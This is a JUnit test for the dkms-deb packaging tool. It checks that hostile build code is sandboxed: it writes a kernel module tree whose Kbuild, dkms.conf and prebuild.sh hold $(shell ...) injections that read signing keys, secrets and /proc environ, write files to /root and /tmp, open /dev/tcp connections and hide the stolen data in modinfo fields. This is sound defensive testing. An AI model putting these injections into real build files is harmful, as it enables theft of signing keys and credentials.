package io.dkmsdeb.it;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * A module whose dkms.conf, PRE_BUILD and Makefile try what hostile build code would: read the
 * signing key (by its path, through GNUPGHOME and HOME), read dkms's state in /var/lib/dkms, write to
 * /root, HOME, the output directory, /usr/src and the host's /tmp, connect to a listener on the host's
 * 127.0.0.1, read another process's environment, and leave a process running. What it could read, it
 * writes into the module (a modinfo field), the one thing of the build that leaves the sandbox. Each
 * attempt fails, the host is unchanged, nothing reaches the listener, and the module is built and signed
 * with the key the build code never saw.
 */
@Tag("kernel")
@Tag("root")
@Tag("tools")
class SandboxHostileTreeTest {
    @TempDir
    Path work;

    private final List<Path> planted = new ArrayList<>();
    private Process victim;

    @AfterEach
    void cleanUp() throws IOException {
        for (Path p : planted) {
            Files.deleteIfExists(p);
        }
        if (victim != null) {
            victim.destroyForcibly();
        }
    }

    private static String q(Path p) {
        return p.toString();
    }

    @Test
    void hostileBuildCodeReachesNothingAndTheModuleIsStillBuiltAndSigned() throws Exception {
        assumeTrue(Cmd.isRoot(), "needs root: /root, /var/lib/dkms and /usr/src are the host's");
        String mark = "sbx" + ProcessHandle.current().pid();
        Path keys = Files.createDirectories(work.resolve("keys"));
        Path key = keys.resolve("signing.key");
        Path cert = keys.resolve("signing.crt");
        Cmd.ok("openssl", "req", "-new", "-x509", "-newkey", "rsa:2048", "-keyout", key.toString(), "-out", cert.toString(), "-days", "2",
                "-nodes", "-subj", "/CN=dkms-deb sandbox test/");
        String keyText = Files.readString(key);
        Path home = Files.createDirectories(work.resolve("home"));
        Files.writeString(home.resolve("secret"), "HOME-SECRET-" + mark);
        Path gnupg = Files.createDirectories(work.resolve("gnupg"));
        Files.writeString(gnupg.resolve("private-keys"), "GNUPG-SECRET-" + mark);
        Path dkmsState = Files.createDirectories(Path.of("/var/lib/dkms"));
        Path dkmsSecret = dkmsState.resolve("dkms-deb-sandbox-test-" + mark);
        Files.writeString(dkmsSecret, "DKMS-SECRET-" + mark);
        planted.add(dkmsSecret);
        Path out = Files.createDirectories(work.resolve("out"));
        Path logs = work.resolve("logs");

        // a process of the host with a secret in its environment
        ProcessBuilder vb = new ProcessBuilder("sleep", "600");
        vb.environment().put("VICTIM_SECRET", "ENV-SECRET-" + mark);
        victim = vb.start();
        long victimPid = victim.pid();

        AtomicInteger connections = new AtomicInteger();
        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(200);
            Thread accept = new Thread(() -> {
                while (!listener.isClosed()) {
                    try (Socket s = listener.accept()) {
                        connections.incrementAndGet();
                    } catch (SocketTimeoutException e) {
                        // poll again
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            accept.setDaemon(true);
            accept.start();
            int port = listener.getLocalPort();

            List<Path> evil = List.of(Path.of("/root/dkms-deb-evil-" + mark), home.resolve("evil-" + mark), out.resolve("evil-" + mark),
                    Path.of("/usr/src/dkms-deb-evil-" + mark), Path.of("/tmp/dkms-deb-evil-" + mark));
            evil.forEach(planted::add);
            // every write, one shell line: each target gets a file if it can
            String writes = String.join("; ", evil.stream().map(p -> "echo owned > " + q(p) + " 2>/dev/null").toList());
            String connect = "exec 3<>/dev/tcp/127.0.0.1/" + port + " && echo connected >&3";
            String steal = "cat " + q(key) + " " + q(dkmsSecret) + " " + q(gnupg.resolve("private-keys")) + " " + q(home.resolve("secret"))
                    + " /proc/" + victimPid + "/environ 2>&1";
            Path tree = Files.createDirectories(work.resolve("hostile"));
            Files.writeString(tree.resolve("hostile.c"), "#include <linux/module.h>\n"
                    + "static int __init h_init(void) { return 0; }\nstatic void __exit h_exit(void) { }\n"
                    + "module_init(h_init);\nmodule_exit(h_exit);\nMODULE_LICENSE(\"GPL\");\n"
                    + "MODULE_INFO(stolen, STOLEN);\nMODULE_INFO(prebuild, PREBUILD);\n");
            Files.writeString(tree.resolve("Kbuild"), "obj-m := hostile.o\n"
                    + "$(shell " + writes.replace("$", "$$") + ")\n"
                    + "$(shell bash -c '" + connect + "' 2>/dev/null)\n"
                    + "$(shell (sleep 3131 </dev/null >/dev/null 2>&1 &))\n"
                    + "ccflags-y += -DSTOLEN='\"$(shell " + steal + " | base64 -w0)\"'\n"
                    + "ccflags-y += -DPREBUILD='\"$(shell base64 -w0 $(KBUILD_EXTMOD)/prebuild.txt 2>/dev/null)\"'\n");
            Files.writeString(tree.resolve("Makefile"), "all:\n\t$(MAKE) -C /lib/modules/$(kernelver)/build M=$(CURDIR) modules\n");
            Files.writeString(tree.resolve("dkms.conf"), "PACKAGE_NAME=hostile\nPACKAGE_VERSION=1.0\nBUILT_MODULE_NAME[0]=hostile\n"
                    + "DEST_MODULE_LOCATION[0]=/updates/dkms\n"
                    + "PRE_BUILD=\"prebuild.sh\"\n"
                    + "$(" + writes.replace("evil-", "evil-conf-") + ")\n"
                    + "$(bash -c '" + connect + "' 2>/dev/null)\n");
            evil.forEach(p -> planted.add(p.resolveSibling(p.getFileName().toString().replace("evil-", "evil-conf-"))));
            Files.writeString(tree.resolve("prebuild.sh"), "#!/bin/sh\n" + writes.replace("evil-", "evil-pre-") + "\n"
                    + "bash -c '" + connect + "' 2>/dev/null\n"
                    + steal.replace(" 2>&1", "") + " > prebuild.txt 2>&1\nexit 0\n");
            evil.forEach(p -> planted.add(p.resolveSibling(p.getFileName().toString().replace("evil-", "evil-pre-"))));
            assertThat(tree.resolve("prebuild.sh").toFile().setExecutable(true)).isTrue();

            Cmd.Result r = Cmd.dkmsDeb(null, Map.of("HOME", home.toString(), "GNUPGHOME", gnupg.toString(), "SOURCE_DATE_EPOCH", "1700000000"),
                    "bmdeb", tree.toString(), "-k", Kernels.newest61(), "-o", out.toString(), "--log-dir", logs.toString(),
                    "--sign-key", key.toString(), "--sign-cert", cert.toString(), "--maintainer", "Test <test@example.org>", "--json");
            assertThat(r.exit()).as(r.toString()).isZero();
            assertThat(r.out()).contains("\"sandbox\":true");

            Path deb = out.resolve("hostile-modules-" + Kernels.newest61() + "_1.0_amd64.deb");
            assertThat(deb).exists();
            Path x = work.resolve("x");
            Cmd.ok("dpkg-deb", "-x", deb.toString(), x.toString());
            Path ko;
            try (Stream<Path> s = Files.walk(x)) {
                ko = s.filter(p -> p.getFileName().toString().startsWith("hostile.ko")).findFirst().orElseThrow();
            }
            String stolen = decode(Cmd.ok("modinfo", "-F", "stolen", ko.toString()).out().strip());
            String prebuild = decode(Cmd.ok("modinfo", "-F", "prebuild", ko.toString()).out().strip());
            String modinfo = Cmd.ok("modinfo", ko.toString()).out();
            for (String seen : List.of(stolen, prebuild)) {
                assertThat(seen).as("what the build code read").doesNotContain("PRIVATE KEY").doesNotContain(keyText.substring(40, 80))
                        .doesNotContain("SECRET-" + mark);
                assertThat(seen).as("it tried, and was refused or found nothing: " + modinfo).containsAnyOf("No such file", "Permission denied");
            }
            // signed outside the sandbox with the key it never saw
            assertThat(Cmd.ok("modinfo", "-F", "signer", ko.toString()).out().strip()).isEqualTo("dkms-deb sandbox test");
            String serial = Cmd.ok("openssl", "x509", "-in", cert.toString(), "-noout", "-serial").out().strip().replace("serial=", "");
            assertThat(Cmd.ok("modinfo", "-F", "sig_key", ko.toString()).out().replace(":", "").strip()).isEqualToIgnoringCase(serial);

            Thread.sleep(300);
            assertThat(connections.get()).as("connections that reached the host's listener").isZero();
        }
        for (Path p : planted) {
            if (!p.equals(dkmsSecret)) {
                assertThat(p).as("written by the build code").doesNotExist();
            }
        }
        try (Stream<Path> s = Files.list(out)) {
            assertThat(s.map(p -> p.getFileName().toString()).filter(n -> !n.startsWith(".")))
                    .containsExactlyInAnyOrder("hostile-modules-" + Kernels.newest61() + "_1.0_amd64.deb", "hostile-modules-cert_1.0_all.deb");
        }
        assertThat(ProcessHandle.allProcesses().filter(p -> p.info().arguments().map(a -> List.of(a).contains("3131")).orElse(false)))
                .as("a process the build code left running").isEmpty();
        assertThat(Files.readString(dkmsSecret)).isEqualTo("DKMS-SECRET-" + mark);
    }

    private static String decode(String base64) {
        return new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_8);
    }
}
